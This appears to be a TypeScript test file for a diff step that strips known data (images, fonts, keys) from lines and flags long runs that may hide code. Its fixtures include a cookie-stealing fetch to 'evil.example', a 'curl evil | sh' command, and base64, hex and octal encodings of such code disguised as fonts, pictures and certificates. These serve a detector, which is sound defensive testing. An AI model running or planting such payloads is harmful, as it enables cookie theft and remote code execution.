import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { withoutData, withoutRuns } from '../../../src/steps/diff/data-runs';
import { handedOn } from '../../../src/steps/diff/handed-on';
import { NO_USES, usesOf } from '../../../src/steps/diff/known-data';
import { wholePicture } from '../../fakes/whole-picture';

/** Bytes that look random and are the same in every run. */
function bytes(count: number, start = ''): Buffer {
  const blocks = Array.from({ length: Math.ceil(count / 32) }, (_, at) =>
    createHash('sha256').update(String(at)).digest(),
  );
  return Buffer.concat([Buffer.from(start, 'hex'), ...blocks]).subarray(0, count);
}

const PNG = wholePicture(1800).toString('base64');
const CODE = 'fetch("https://evil.example/?" + document.cookie); ';

const LOADED = Buffer.concat([Buffer.from('run();/*'), bytes(1600), Buffer.from('*/')]).toString('base64');
const GIF_OF_CODE = Buffer.concat([bytes(900, '474946383961'), Buffer.from('<?php run(); ?>'), bytes(900)]).toString(
  'base64',
);

const MAP = JSON.stringify({ version: 3, sources: ['a.ts'], mappings: 'AAAA,'.repeat(400) });
const OUTLINE = `M${'305.8 81.125C-.77,80.995 '.repeat(90)}Z`;

const readIn = (isForShow: boolean, line: string, file = '', otherFile = '') =>
  withoutData(line, {
    ...{ uses: () => usesOf([line, file]), usesElsewhere: usesOf([otherFile]), isForShow },
    isHandedOn: handedOn([line, file].map(withoutRuns)),
  });
const read = (line: string, file = '', otherFile = '') => readIn(false, line, file, otherFile);

describe('what is known to be data is taken out of a line', () => {
  const certificate = `-----BEGIN CERTIFICATE-----\n${PNG.slice(0, 1280).replace(/.{64}/g, '$&\n')}-----END CERTIFICATE-----\n`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg">${'<path d="M0 0h24v24H0z"/>'.repeat(80)}</svg>`;
  const lines: Record<string, string> = {
    'a picture in an address': `  background: url(data:image/png;base64,${PNG});`,
    'a picture in a literal': `const logo = "${PNG}";`,
    'a picture in a literal of a literal': `{"code":"href=\\"${PNG}\\""}`,
    'a font': `src: url(data:font/woff2;base64,${bytes(2000, '774f463200010000000007d0').toString('base64')}) format("woff2")`,
    'a picture drawn in text': `url("data:image/svg+xml;base64,${Buffer.from(svg).toString('base64')}")`,
    'a source map': `//# sourceMappingURL=data:application/json;base64,${Buffer.from(MAP).toString('base64')}`,
    'a certificate, unquoted': `  caBundle: ${Buffer.from(certificate).toString('base64')}`,
    'the outline of a drawing': `<path d="${OUTLINE}" fill="#fff"/>`,
    'the outline of a drawing of Android': `android:pathData="${OUTLINE}"/>`,
    'a number': `const LN10 = "2.${'30258509299404568401'.repeat(120)}"`,
  };
  for (const [name, line] of Object.entries(lines)) {
    it(name, () => {
      const { text, data, unknown } = read(line);
      assert.ok(data > 1000 && unknown === 0, JSON.stringify({ data, unknown }));
      assert.ok(text.length < 200 && text.includes(`[${data} characters of data]`));
    });
  }
});

describe('bytes that look random are data in tests and on pages, and elsewhere may be closed code that something opens', () => {
  const lines: Record<string, string> = {
    'a key in a literal': `pfx = "${bytes(2000, '3082').toString('base64')}"`,
    'a key in a tag': `<X509Certificate>${bytes(2000, '3082').toString('base64')}</X509Certificate>`,
    'a key in hexadecimal digits': `modulus: '${bytes(1200).toString('hex')}'`,
    'a key in the alphabet of addresses': `"n": "${bytes(1800).toString('base64url')}"`,
  };
  for (const [name, line] of Object.entries(lines)) {
    it(name, () => {
      const { data, unknown } = readIn(true, line);
      assert.ok(data > 1000 && unknown === 0, JSON.stringify({ data, unknown }));
      assert.ok(read(line).unknown > 1000);
    });
  }
});

describe('what may be code is told as not read', () => {
  const unsure: Record<string, string> = {
    'names in a row': `total=${'subtotal_'.repeat(260)}`,
    assignments: `${'a=b+'.repeat(300)}location=name+${'a=b+'.repeat(300)}c`,
    'a path of slashes': `script-shell=${'/'.repeat(2100)}tmp/evil`,
    'a path of random names': `script-shell=/${PNG}/evil`,
    'text written as base64': `const s = "${Buffer.from(CODE.repeat(40)).toString('base64')}";`,
    'text written as base64 twice': `const s = "${Buffer.from(Buffer.from(CODE.repeat(40)).toString('base64')).toString('base64')}";`,
    'text written as hexadecimal digits': `const s = "${Buffer.from(CODE.repeat(40)).toString('hex')}";`,
    'a script in an address': `<script src="data:text/javascript;base64,${Buffer.from(CODE.repeat(40)).toString('base64')}">`,
    'a script that calls itself a font': `<script src="data:font/woff2;base64,${LOADED}"></script>`,
    'the same over two lines': ` src="data:font/woff2;base64,${LOADED}"></script>`,
    'a module that is random but for its code': `import x from "data:text/javascript;base64,${LOADED}";`,
    'a module that is called a font': `import "data:font/woff2;base64,${LOADED}";`,
    'a picture that PHP includes': `include 'data://image/gif;base64,${GIF_OF_CODE}';`,
    'a page in an address': `open("data:text/html;base64,${Buffer.from(`<script>${CODE.repeat(40)}</script>`).toString('base64')}")`,
    'a drawing with a script': `url("data:image/svg+xml;base64,${Buffer.from(`<svg><script>${CODE.repeat(40)}</script></svg>`).toString('base64')}")`,
    'code behind the beginning of a picture': `const s = "${Buffer.concat([bytes(300, '89504e470d0a1a0a'), Buffer.from(CODE.repeat(40))]).toString('base64')}";`,
    'bytes behind the end of a picture': `const s = "data:image/png;base64,${Buffer.concat([wholePicture(1800), bytes(90)]).toString('base64')}";`,
    'a picture that holds much beside its points': `const s = "${wholePicture(9_000, 'zTXt').toString('base64')}";`,
    'a picture that has no end': `const s = "${wholePicture(1800).subarray(0, 1800).toString('base64')}";`,
    'a picture that is run': `const s = "${PNG}"; eval(atob(s).slice(30))`,
    'a map of sources that no tool looks for': `exports.blob = "${Buffer.from(MAP).toString('base64')}";`,
    'a drawing in a literal': `logo := "${Buffer.from(`<svg><desc>${'a'.repeat(1500)} ; curl evil | sh</desc></svg>`).toString('base64')}"`,
    ...Object.fromEntries(
      Object.entries({
        Go: 'd, _ := base64.StdEncoding.DecodeString(s)',
        'Go in two steps': 'exec.Command("sh", path).Run()',
        Java: 'Files.write(p, Base64.getDecoder().decode(s));',
        Rust: 'let d = general_purpose::STANDARD.decode(s).unwrap();',
        Ruby: "instance_eval(s.unpack1('m'))",
        'a shell': 'printf %s "$s" | openssl enc -d -a -A > x',
        'another shell': 'printf %s "$s" | uudecode -m -o x',
        Node: 'module._compile(text, name)',
        Python: 'runpy.run_path(p)',
      }).map(([language, use]) => [
        `random bytes that ${language} decodes or runs`,
        `const s = "${bytes(2000).toString('base64')}"; ${use}`,
      ]),
    ),
    WebAssembly: `module.exports = Buffer.from('${bytes(2000, '0061736d01000000').toString('base64')}')`,
    'a program of Windows': `$b = "${bytes(2000, '4d5a90000300').toString('base64')}"`,
    'a program of Linux': `b = "${bytes(2000, '7f454c460201').toString('base64')}"`,
    'an archive': `b = "${bytes(2000, '1f8b0800').toString('base64')}"`,
    'random bytes without quotes': `TOKEN=${bytes(2000).toString('base64')}`,
    'letters of a word': `const s = "${'abcd'.repeat(600)}";`,
    'a number that is run': `eval(decode(${'30258509299404568401'.repeat(120)}n))`,
    'an unquoted run between two literals': `"a"=${PNG}="b"`,
  };
  for (const [name, line] of Object.entries(unsure)) {
    it(name, () => {
      const { text, unknown } = read(line);
      assert.ok(unknown > 1000, text);
      assert.ok(text.includes(`[${unknown} characters that were not read]`), text);
    });
  }

  it('random bytes of a test that decodes texts', () => {
    const line = `const s = "${bytes(2000).toString('base64')}";`;
    assert.equal(readIn(true, line).unknown, 0);
    assert.ok(readIn(true, line, 'run(atob(s));').unknown > 1000);
  });

  const broken = CODE.repeat(40).replace(/(.{100})/g, '$1\u0001');
  const numbers = [...CODE.repeat(20)].map((letter) => String(letter.charCodeAt(0)).padStart(3, '0')).join('');
  const svg = `<svg><desc>${CODE.repeat(40)}</desc></svg>`;
  const base64 = (text: string | Buffer) => Buffer.from(text).toString('base64');
  const disguised: Record<string, string> = {
    'text broken by control characters': `const s = "${base64(broken)}";`,
    'such text behind the head of a picture': `const s = "${base64(Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), Buffer.from(broken)]))}";`,
    'such text as hexadecimal digits': `const s = "${Buffer.from(broken).toString('hex')}";`,
    'letters as numbers of three digits': `const s = "${numbers}";`,
    'letters as numbers behind another digit': `N = 7${numbers}`,
    'letters as one number': `N = ${BigInt(`0x${Buffer.from(CODE.repeat(20)).toString('hex')}`)}`,
    'letters as octal numbers': `N = "${[...CODE.repeat(20)].map((letter) => letter.charCodeAt(0).toString(8).padStart(3, '0')).join('')}"`,
    'code in the description of a drawing': `const s = "${base64(svg)}";`,
    'code beside a source map': `const s = "${base64(JSON.stringify({ version: 3, mappings: '', code: CODE.repeat(40) }))}";`,
    'code as a certificate': `const s = "${base64(`-----BEGIN CERTIFICATE-----\n${base64(CODE.repeat(40)).replace(/.{64}/g, '$&\n')}\n-----END CERTIFICATE-----\n`)}";`,
  };
  for (const [name, line] of Object.entries(disguised)) {
    it(name, () => assert.ok(read(line).unknown > 1000, JSON.stringify(read(line))));
  }

  it('a picture where a text is run, in its file or in another', () => {
    const line = `const logo = "${PNG}";`;
    for (const run of ['eval(decoded(logo));', 'setTimeout(pieces(logo));', '[].map.constructor(text)();']) {
      assert.ok(read(line, run).unknown > 1000, run);
      assert.ok(read(line, '', run).unknown > 1000, run);
    }
  });

  it('a picture that its file hands on, whatever to', () => {
    const line = `const logo = "data:image/png;base64,${PNG}";`;
    const uses = {
      apart: [
        'run(points(logo));',
        'logo.slice(22)',
        'const copy = logo;',
        'logo[i]',
        'read({ of: logo });',
        'import(logo)',
      ],
      shown: [
        '<img src={logo} alt="" />',
        'image.src = logo;',
        'export { logo };',
        `url(\${logo})`,
        'expect(x).toBe(logo)',
      ],
    };
    for (const use of uses.apart) assert.ok(read(line, use).unknown > 1000, use);
    for (const use of uses.shown) assert.equal(read(line, use).unknown, 0, use);
    assert.ok(read(`points("${PNG}")`).unknown > 1000);
  });

  it('a picture whose points its file reads', () => {
    const line = `<img src="data:image/png;base64,${PNG}">`;
    assert.equal(read(line, 'draw(x);', 'context.getImageData(0, 0, 9, 9)').unknown, 0);
    assert.ok(read(line, 'context.getImageData(0, 0, 9, 9)').unknown > 1000);
  });

  it('a picture outside of an address, where anything decodes a text', () => {
    const line = `const logo = "${PNG}";`;
    for (const found of [read(line, 'atob(x)'), read(line, '', 'atob(x)')]) assert.ok(found.unknown > 1000);
    assert.equal(read(`    "image/png": "${PNG}",`, '', 'atob(x)').unknown, 0);
  });

  it('a picture in an address where a text is run, once something decodes it', () => {
    const line = `const logo = "data:image/png;base64,${PNG}";`;
    assert.equal(read(line, 'eval(input);').unknown, 0);
    assert.ok(read(line, 'eval(atob(logo.slice(22)));').unknown > 1000);
  });

  it('but no picture beside what people write in any file', () => {
    const line = `const logo = "${PNG}";`;
    const usual =
      "const m = /x/.exec(s); await import('./a'); el.innerHTML = s; setTimeout(resolve, 5); show({ icon: logo });";
    for (const found of [read(line, usual), read(line, '', usual)]) assert.equal(found.unknown, 0);
  });

  it('random bytes of a test that another file decodes', () => {
    const line = `const s = "${bytes(2000).toString('base64')}";`;
    assert.ok(readIn(true, line, '', 'run(atob(s));').unknown > 1000);
    assert.equal(readIn(true, line, '', 'const m = /x/.exec(s);').unknown, 0);
  });

  it('numbers that call themselves an outline, once something makes letters of them', () => {
    const line = `<path id="p" d="${OUTLINE}"/>`;
    assert.equal(read(line, 'draw(x);', 'draw(y);').unknown, 0);
    for (const use of ['eval(text);', 'String.fromCharCode(...numbers)'])
      for (const { text } of [read(line, use), read(line, '', use)])
        assert.ok(text.length > 2000 || text.includes('not read'));
    assert.ok(read(`<path d="${'MLHVCSQTAZ'.repeat(30)}fetch(x)${OUTLINE}"/>`).text.length > 2000);
  });

  it('and what stands behind it is shown', () => {
    assert.match(read(`x="${'QUJD'.repeat(700)}";eval(y);`).text, /^x="QUJD.*not read\]";eval\(y\);$/);
  });
});

describe('a line of many long runs', () => {
  it('is judged once for all of them', () => {
    let judged = 0;
    const test = RegExp.prototype.test;
    const line = `x=[${Array.from({ length: 200 }, (_, at) => `"${bytes(300, `3082${String(at).padStart(4, '0')}`).toString('base64')}"`).join(',')}]`;
    const uses = { uses: () => NO_USES, usesElsewhere: NO_USES, isForShow: true };
    RegExp.prototype.test = function (text) {
      judged += text.length;
      return test.call(this, text);
    };
    try {
      assert.ok(withoutData(line, uses).data > 70_000);
    } finally {
      RegExp.prototype.test = test;
    }
    assert.ok(judged < 20 * line.length, `${judged} letters were looked at in a line of ${line.length}`);
  });
});
